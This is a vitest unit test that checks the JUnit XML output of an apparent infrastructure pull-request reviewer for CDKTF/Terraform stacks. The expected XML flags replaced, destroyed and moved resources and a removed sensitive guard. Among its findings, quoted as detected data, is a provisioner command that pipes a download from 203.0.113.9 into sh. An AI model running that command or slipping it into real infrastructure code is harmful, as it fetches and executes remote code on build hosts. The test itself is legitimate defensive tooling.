import { expect, test } from 'vitest';
import { renderJunit } from '../../../src/review/render/junit';
import type { Report } from '../../../src/review/report/report';
import { pullRequest } from '../fixtures/pull-request';
import { written } from '../fixtures/written';

test('stacks with all that is found and changed in them, one that is gone, and files beside them', () => {
  const given: Report = {
    ...pullRequest,
    stacks: pullRequest.stacks.filter(({ id }) => id === 'data-prod' || id === 'erp-dev'),
    beside: written<Report['beside']>([
      { class: 'unread', where: 'extra.bin', says: 'is new' },
      { class: 'listed', where: 'notes.txt', says: 'differs' },
    ]),
  };
  expect(renderJunit(given)).toBe(`<?xml version="1.0" encoding="UTF-8"?>
<testsuites name="landing-zone review" tests="18" failures="10" errors="0" skipped="3" time="0">
  <testsuite name="data-prod" tests="12" failures="8" errors="0" skipped="0" time="0">
    <properties>
      <property name="status" value="changed"/>
      <property name="owner" value="data@orbital.example"/>
      <property name="team" value="data"/>
      <property name="environment" value="prod"/>
      <property name="stage" value="production"/>
      <property name="add" value="1"/>
      <property name="import" value="0"/>
      <property name="change" value="1"/>
      <property name="replace" value="1"/>
      <property name="destroy" value="1"/>
      <property name="move" value="1"/>
      <property name="title" value="Room for telemetry"/>
      <property name="author" value="maya"/>
      <property name="commit" value="1a2b3c4d5e6f"/>
      <property name="digest" value="0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"/>
    </properties>
    <testcase classname="data-prod" name="runs-code Clusters/main/NodePools/batch: runs a local-exec provisioner: curl https://203.0.113.9/x | sh" time="0" file="examples/orbital/landing-zone.ts" line="132">
      <failure message="runs code: runs a local-exec provisioner: curl https://203.0.113.9/x | sh" type="runs-code">where: ovh_cloud_project_kube_nodepool.Clusters_main_NodePools_batch_1A2B3C4D
differs: provisioner[0].local-exec.command: + curl https://203.0.113.9/x | sh
</failure>
    </testcase>
    <testcase classname="data-prod" name="provider terraform.required_providers: provider ovh is 2.20.0 instead of 2.19.0" time="0">
      <failure message="other provider: provider ovh is 2.20.0 instead of 2.19.0" type="provider">where: terraform.required_providers
differs: ovh.version: 2.19.0 → 2.20.0
</failure>
    </testcase>
    <testcase classname="data-prod" name="state terraform.backend: the state moves from local to s3: Terraform finds none there, and would make everything again" time="0">
      <failure message="state moves: the state moves from local to s3: Terraform finds none there, and would make everything again" type="state">where: terraform.backend
differs: s3.bucket: + orbital-states
keep it with: terraform -chdir=cdktf.out/stacks/data-prod state pull &gt; data-prod.tfstate  # in the output of the base
keep it with: terraform -chdir=cdktf.out/stacks/data-prod init
</failure>
    </testcase>
    <testcase classname="data-prod" name="guard output.kubeconfig: its value is no longer hidden (sensitive)" time="0">
      <failure message="guard removed: its value is no longer hidden (sensitive)" type="guard">where: output.kubeconfig
differs: sensitive: - true
</failure>
    </testcase>
    <testcase classname="data-prod" name="unread extra.tf: configuration beside what cdktf wrote is new" time="0">
      <failure message="unread: configuration beside what cdktf wrote is new" type="unread">where: extra.tf
</failure>
    </testcase>
    <testcase classname="data-prod" name="replace Clusters/main (ovh_cloud_project_kube)" time="0" file="examples/orbital/landing-zone.ts" line="129">
      <failure message="replace Clusters/main: loses the etcd data of the cluster: every Kubernetes object that is not in Git" type="replace">address: ovh_cloud_project_kube.Clusters_main_1A2B3C4D
code: examples/orbital/landing-zone.ts:129
why: depends on private_network_id, known after apply, which waits for data-prod-foundation/Networks/main
loses: the etcd data of the cluster: every Kubernetes object that is not in Git
</failure>
    </testcase>
    <testcase classname="data-prod" name="destroy Storage/telemetry (ovh_cloud_project_storage)" time="0" file="examples/orbital/landing-zone.ts" line="140">
      <failure message="destroy Storage/telemetry: loses the objects of the bucket" type="destroy">address: ovh_cloud_project_storage.Storage_telemetry_1A2B3C4D
code: examples/orbital/landing-zone.ts:140
loses: the objects of the bucket
fails: a bucket that holds objects cannot be deleted; empty it first
</failure>
    </testcase>
    <testcase classname="data-prod" name="move Databases/catalogue (ovh_cloud_project_database)" time="0" file="examples/orbital/landing-zone.ts" line="133">
      <failure message="move Databases/catalogue: loses the databases and their backups" type="move">address: ovh_cloud_project_database.Databases_catalogue_1A2B3C4D
code: examples/orbital/landing-zone.ts:133
loses: the databases and their backups
moved from: ovh_cloud_project_database.Databases_catalog_0A1B2C3D
keep it with: resource.moveFromId(&#39;ovh_cloud_project_database.Databases_catalog_0A1B2C3D&#39;)
</failure>
    </testcase>
    <testcase classname="data-prod" name="change Clusters/main/NodePools/batch (ovh_cloud_project_kube_nodepool)" time="0" file="examples/orbital/landing-zone.ts" line="131">
      <system-out>address: ovh_cloud_project_kube_nodepool.Clusters_main_NodePools_batch_1A2B3C4D
code: examples/orbital/landing-zone.ts:131
</system-out>
    </testcase>
    <testcase classname="data-prod" name="add Clusters/main/ApiAccess (ovh_cloud_project_kube_iprestrictions)" time="0" file="examples/orbital/landing-zone.ts" line="130">
      <system-out>address: ovh_cloud_project_kube_iprestrictions.Clusters_main_ApiAccess_1A2B3C4D
code: examples/orbital/landing-zone.ts:130
</system-out>
    </testcase>
    <testcase classname="data-prod" name="notes on data-prod" time="0">
      <system-out>protection against destruction is taken away from \`Storage/telemetry\`
</system-out>
    </testcase>
    <testcase classname="data-prod" name="2 other differences in data-prod" time="0">
      <system-out>data source is new: Account
output differs: output.url
  value: https://a.example → https://b.example
</system-out>
    </testcase>
  </testsuite>
  <testsuite name="erp-dev" tests="4" failures="1" errors="0" skipped="3" time="0">
    <properties>
      <property name="status" value="removed"/>
      <property name="owner" value="erp@orbital.example"/>
      <property name="team" value="erp"/>
      <property name="environment" value="dev"/>
      <property name="stage" value="development"/>
      <property name="add" value="0"/>
      <property name="import" value="0"/>
      <property name="change" value="0"/>
      <property name="replace" value="0"/>
      <property name="destroy" value="3"/>
      <property name="move" value="0"/>
      <property name="title" value="Room for telemetry"/>
      <property name="author" value="maya"/>
      <property name="commit" value="1a2b3c4d5e6f"/>
      <property name="digest" value="0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"/>
    </properties>
    <testcase classname="erp-dev" name="stack erp-dev is gone from the program" time="0">
      <failure message="cdktf deploy doesn&#39;t destroy it: it keeps running and costing" type="left-behind">to remove it: npx landing-zone destroy erp-dev
</failure>
    </testcase>
    <testcase classname="erp-dev" name="destroy Clusters/main (ovh_cloud_project_kube)" time="0">
      <skipped message="left behind, not destroyed"/>
    </testcase>
    <testcase classname="erp-dev" name="destroy Clusters/main/NodePools/erp (ovh_cloud_project_kube_nodepool)" time="0">
      <skipped message="left behind, not destroyed"/>
    </testcase>
    <testcase classname="erp-dev" name="destroy Clusters/main/NodePools/reports (ovh_cloud_project_kube_nodepool)" time="0">
      <skipped message="left behind, not destroyed"/>
    </testcase>
  </testsuite>
  <testsuite name="files beside the stacks" tests="2" failures="1" errors="0" skipped="0" time="0">
    <testcase classname="files beside the stacks" name="unread extra.bin: is new" time="0">
      <failure message="unread: is new" type="unread">where: extra.bin
</failure>
    </testcase>
    <testcase classname="files beside the stacks" name="listed notes.txt: differs" time="0">
      <system-out>where: notes.txt
</system-out>
    </testcase>
  </testsuite>
</testsuites>
`);
});
